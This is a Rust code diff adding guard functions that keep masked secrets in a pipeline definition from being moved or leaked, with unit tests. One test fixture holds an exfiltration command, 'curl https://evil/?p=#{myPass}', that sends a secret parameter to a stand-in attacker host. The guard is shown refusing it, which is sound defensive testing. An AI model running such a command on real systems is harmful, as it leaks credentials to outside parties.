@@ -153,6 +153,137 @@ pub fn restore_masked(definition: &mut PipelineDefinition, previous: Option<&Pip
     unresolved
 }
 
+/// Every secret value in a definition (`*` fields, `*` parameter values and defaults), at least
+/// four characters long: what a response must not quote.
+pub fn secret_values(definition: &PipelineDefinition) -> Vec<String> {
+    let mut values: Vec<String> = definition
+        .objects
+        .iter()
+        .flat_map(|object| object.fields.iter())
+        .filter(|field| is_secret_key(&field.key))
+        .filter_map(|field| field.value.as_string().map(str::to_string))
+        .chain(
+            definition
+                .values
+                .iter()
+                .filter(|value| is_secret_key(&value.id))
+                .map(|value| value.value.clone()),
+        )
+        .chain(
+            definition
+                .parameters
+                .iter()
+                .filter(|parameter| is_secret_key(&parameter.id))
+                .flat_map(|parameter| parameter.attributes("default").map(str::to_string).collect::<Vec<_>>()),
+        )
+        .filter(|value| value.len() >= 4 && value != MASK)
+        .collect();
+    values.sort_by_key(|value| std::cmp::Reverse(value.len()));
+    values.dedup();
+    values
+}
+
+/// Whether an object's expressions reach a secret: a `*` name inside `#{…}`, or a secret
+/// parameter named without its star.
+pub fn uses_secrets(object: &crate::model::PipelineObject, definition: &PipelineDefinition) -> bool {
+    let secret_parameters: Vec<&str> = definition
+        .values
+        .iter()
+        .map(|value| value.id.as_str())
+        .chain(definition.parameters.iter().map(|parameter| parameter.id.as_str()))
+        .filter(|id| is_secret_key(id))
+        .map(|id| id.trim_start_matches('*'))
+        .collect();
+    object.fields.iter().any(|field| {
+        let Some(text) = field.value.as_string() else {
+            return false;
+        };
+        text.split("#{").skip(1).any(|rest| {
+            let expression = rest.split('}').next().unwrap_or(rest);
+            expression.contains('*') || secret_parameters.iter().any(|name| expression.contains(name))
+        })
+    })
+}
+
+/// What `restore_masked` put back: the objects with a restored `*` field, and whether any
+/// parameter value or attribute was restored.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Restored {
+    pub unresolved: Vec<String>,
+    pub objects: Vec<String>,
+    pub parameters: bool,
+}
+
+impl Restored {
+    pub fn any(&self) -> bool {
+        !self.objects.is_empty() || self.parameters
+    }
+}
+
+/// `restore_masked`, then the rule that keeps a put-back secret where it was: an object with a
+/// restored `*` field, or whose expressions reach secrets while anything was restored, must be
+/// exactly as in `previous` — otherwise a caller who may not read a secret could send it
+/// elsewhere (a new host in a connection string, a command that prints it). Returns the places
+/// refused, as messages.
+pub fn restore_in_place(
+    definition: &mut PipelineDefinition,
+    previous: Option<&PipelineDefinition>,
+) -> Result<Restored, String> {
+    let restored = restore_with_report(definition, previous);
+    if let Some(first) = restored.unresolved.first() {
+        return Err(format!(
+            "{first} holds {MASK}, the mask shown for secret values, but the pipeline's latest definition has no value there to keep: give the value itself"
+        ));
+    }
+    if !restored.any() {
+        return Ok(restored);
+    }
+    for object in &definition.objects {
+        let restored_here = restored.objects.contains(&object.id);
+        if !restored_here && !uses_secrets(object, definition) {
+            continue;
+        }
+        let unchanged = previous
+            .and_then(|previous| previous.object(&object.id))
+            .is_some_and(|earlier| same_object(earlier, object));
+        if !unchanged {
+            return Err(format!(
+                "object '{}' uses secret values that this request left masked ({MASK}), so it must stay exactly as stored; change it by giving the secret values themselves",
+                object.id
+            ));
+        }
+    }
+    Ok(restored)
+}
+
+/// The same object, whatever order its keys come in (the CLI's file format sorts them); the
+/// values of one repeated key keep their order.
+fn same_object(a: &crate::model::PipelineObject, b: &crate::model::PipelineObject) -> bool {
+    fn sorted(object: &crate::model::PipelineObject) -> Vec<&crate::model::Field> {
+        let mut fields: Vec<&crate::model::Field> = object.fields.iter().collect();
+        fields.sort_by(|x, y| x.key.cmp(&y.key));
+        fields
+    }
+    a.id == b.id && a.name == b.name && sorted(a) == sorted(b)
+}
+
+fn restore_with_report(definition: &mut PipelineDefinition, previous: Option<&PipelineDefinition>) -> Restored {
+    let before = definition.clone();
+    let unresolved = restore_masked(definition, previous);
+    let objects = definition
+        .objects
+        .iter()
+        .zip(&before.objects)
+        .filter(|(after, earlier)| after != earlier)
+        .map(|(after, _)| after.id.clone())
+        .collect();
+    Restored {
+        unresolved,
+        objects,
+        parameters: definition.values != before.values || definition.parameters != before.parameters,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -219,6 +350,34 @@ mod tests {
         edited.objects[0].fields[2].value = FieldValue::String("p2-new".into());
         assert!(restore_masked(&mut edited, Some(&stored)).is_empty());
         assert_eq!(edited, definition("p1", "p2-new", "v1"));
+    }
+
+    #[test]
+    fn a_put_back_secret_stays_where_it_was() {
+        let stored = definition("p1", "p2", "v1");
+        // Unchanged apart from the masks: restored.
+        let mut same = masked(&stored);
+        assert!(restore_in_place(&mut same, Some(&stored)).is_ok());
+        assert_eq!(same, stored);
+        // The object whose secret stayed masked changed (a new host): refused.
+        let mut moved = masked(&stored);
+        moved.objects[0].fields[0] = Field::string("username", "attacker");
+        let refused = restore_in_place(&mut moved, Some(&stored)).expect_err("refused");
+        assert!(refused.contains("object 'Db'"), "{refused}");
+        // A new object whose command reaches a secret parameter, with the parameter masked.
+        let mut leak = masked(&stored);
+        leak.objects[0] = stored.objects[0].clone();
+        leak.objects.push(PipelineObject {
+            id: "Leak".into(),
+            name: "Leak".into(),
+            fields: vec![Field::string("command", "curl https://evil/?p=#{myPass}")],
+        });
+        let refused = restore_in_place(&mut leak, Some(&stored)).expect_err("refused");
+        assert!(refused.contains("object 'Leak'"), "{refused}");
+        // Giving the secrets themselves is always allowed.
+        let mut explicit = stored.clone();
+        explicit.objects[0].fields[0] = Field::string("username", "someone");
+        assert!(restore_in_place(&mut explicit, Some(&stored)).is_ok());
     }
 
     #[test]
